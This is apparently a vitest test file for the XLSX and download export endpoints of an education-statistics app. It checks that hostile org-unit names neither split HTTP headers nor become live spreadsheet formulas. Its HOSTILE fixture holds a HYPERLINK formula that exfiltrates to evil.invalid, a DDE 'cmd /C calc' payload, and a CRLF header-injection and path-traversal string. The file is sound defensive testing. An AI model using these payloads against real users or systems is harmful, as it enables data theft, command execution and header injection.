import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { testEngine } from '@profmon/db/testing'
import { readWorkbook } from '../collection/xlsx/test-workbook.ts'
import { readZip } from '../collection/xlsx/test-zip.ts'
import { createFixtureTree, type FixtureTree } from '../testing/fixture-tree.ts'
import { createTestApp, type TestApp } from '../testing/test-app.ts'
import { reliabilityTally } from '@profmon/contract/reliability'

const P = '2025-26'

/** Names a hostile user could give org units: formulas for a spreadsheet, a header for HTTP. */
const HOSTILE = {
  schoolA1: '=HYPERLINK("http://evil.invalid/?"&A1,"Открыть")',
  schoolA2: "@SUM(1+1)*cmd|' /C calc'!A0",
  schoolA3: '+7 (900) 000-00-00',
  munA: '-2+3 район',
  region: 'Край «Ёлки» O\'Brien (копия)* "q"\r\nX-Injected: 1; filename=evil.exe ../../etc/passwd %0d%0a',
}
/** RFC 6266 with RFC 5987's attr-char in the UTF-8 form: one line, nothing a parser could split. */
const DISPOSITION = /^attachment; filename="[\x20-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9!#$&+\-.^_`|~%]+$/

describe(`exports under hostile names on ${testEngine}`, () => {
  const names = reliabilityTally('download names and formula-looking text in XLSX exports (name × export)', testEngine)
  let t: TestApp
  let tree: FixtureTree

  beforeAll(async () => {
    t = await createTestApp()
    tree = await createFixtureTree(t.deps.db)
    for (const [key, name] of Object.entries(HOSTILE))
      await t.deps.db
        .updateTable('org_unit')
        .set({ name })
        .where('id', '=', tree[key as keyof typeof HOSTILE])
        .execute()
    const values = [tree.schoolA1, tree.schoolA2, tree.schoolA3].flatMap((orgUnit) => [
      { orgUnit, period: P, element: 'core.teachers_total', value: 40 },
      { orgUnit, period: P, element: 'deficits.diagnosed', value: 10 },
    ])
    expect((await t.call('POST', '/api/data-values', { values })).status).toBe(200)
  })
  afterAll(async () => {
    names.flush()
    await t.close()
  })

  const routes = () => [
    `/api/exports/values?orgUnit=${tree.region}&period=${P}&plugin=deficits`,
    `/api/exports/analytics?orgUnit=${tree.region}&period=${P}`,
    `/api/imports/template?orgUnit=${tree.region}&period=${P}&plugin=deficits`,
    `/api/analysis/export?orgUnit=${tree.region}&period=${P}&indicator=deficits.diagnosed_share`,
    `/api/data-quality/export?orgUnit=${tree.region}&period=${P}`,
    `/api/recommendations/export?orgUnit=${tree.region}&period=${P}`,
  ]

  it('name every download in one well-formed Content-Disposition line (RFC 6266, UTF-8 name kept)', async () => {
    for (const path of routes()) {
      names.add(Object.keys(HOSTILE).length)
      const res = await t.download(path)
      expect(res.status, path).toBe(200)
      const disposition = res.headers.get('content-disposition') ?? ''
      expect(disposition, path).toMatch(DISPOSITION)
      expect(res.headers.get('x-injected'), path).toBeNull()
      const utf8 = decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(disposition)![1]!)
      expect(utf8, path).toContain(HOSTILE.region)
      await res.arrayBuffer()
    }
  })

  it('write names that look like formulas as text in every XLSX export: no formula, text format', async () => {
    const seen = new Set<string>()
    for (const path of routes()) {
      const bytes = new Uint8Array(await (await t.download(path)).arrayBuffer())
      for (const f of readZip(bytes).filter((e) => e.name.startsWith('xl/worksheets/')))
        expect(String(Buffer.from(f.data)), `${path} ${f.name}`).not.toMatch(/<f[ >]/)
      const wb = await readWorkbook(bytes)
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            if (typeof cell.value !== 'string') return
            for (const name of Object.values(HOSTILE)) if (cell.value.includes(name)) seen.add(name)
            if (/^[=+\-@]/.test(cell.value)) expect(cell.numFmt, `${path} ${ws.name}!${cell.address}`).toBe('@')
          }),
        ),
      )
    }
    // Each formula-like name made it into some export, literally (the region's is the header test's).
    const formulaLike = [HOSTILE.schoolA1, HOSTILE.schoolA2, HOSTILE.schoolA3, HOSTILE.munA]
    expect([...seen].filter((n) => formulaLike.includes(n)).sort()).toEqual(formulaLike.sort())
  })
})
